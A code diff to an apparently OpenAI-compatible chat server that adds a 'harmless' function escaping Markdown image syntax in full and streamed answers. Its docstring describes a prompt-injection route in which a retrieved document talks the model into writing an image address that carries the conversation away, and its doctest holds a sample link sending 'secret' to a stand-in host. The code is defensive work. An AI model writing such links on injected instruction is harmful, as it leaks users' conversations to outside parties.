@@ -115,7 +115,7 @@ async def chat_completions(request: Request, body: ChatBody) -> StreamingRespons
         if event["event"] == "problem":
             raise ProblemError(event["status"], event["detail"], *event.get("notes", ()))
         answer = event
-    message = {"role": "assistant", "content": answer["answer"] + sources(answer)}
+    message = {"role": "assistant", "content": harmless(answer["answer"]) + sources(answer)}
     choice = {"index": 0, "message": message, "finish_reason": "stop", "logprobs": None}
     usage = await run_in_threadpool(_usage, library, answer)
     return JSONResponse({**_head("chat.completion", body.model), "choices": [choice], "usage": usage, **_own(answer)})
@@ -199,15 +199,17 @@ async def _chunks(events: Iterator[Document], model: str, counting: OpenLibrary 
         return f"data: {json.dumps({**head, 'choices': [choice], **more})}\n\n".encode()
 
     yield chunk({"role": "assistant", "content": ""})
-    streamed = ""
+    streamed = held = ""
     async for event in streams.in_thread(events):
         if event["event"] == "token":
             streamed += event["text"]
-            yield chunk({"content": event["text"]})
+            text, held = held + event["text"], "!" * (held + event["text"]).endswith("!")  # a bracket may follow
+            if shown := harmless(text.removesuffix(held)):
+                yield chunk({"content": shown})
         elif event["event"] == "problem":
             yield f"data: {json.dumps({'error': openais_error(event)})}\n\n".encode()
         elif event["event"] == "answer":
-            rest = _correction(streamed, event["answer"]) + sources(event)
+            rest = harmless(held + _correction(streamed, event["answer"])) + sources(event)
             if rest:
                 yield chunk({"content": rest})
             yield chunk({}, "stop", **_own(event))
@@ -215,6 +217,16 @@ async def _chunks(events: Iterator[Document], model: str, counting: OpenLibrary 
                 usage = await run_in_threadpool(_usage, counting, event)
                 yield f"data: {json.dumps({**head, 'choices': [], 'usage': usage})}\n\n".encode()
     yield _DONE
+
+
+def harmless(text: str) -> str:
+    """The same where Markdown is shown, without pictures: who shows one fetches its address, and a document may have
+    talked the model into writing an address that carries the conversation away.
+
+    >>> harmless("See ![x](https://a.example/?q=secret)!")
+    'See !\\\\[x](https://a.example/?q=secret)!'
+    """
+    return text.replace("![", "!\\[")
 
 
 def _correction(streamed: str, text: str) -> str:
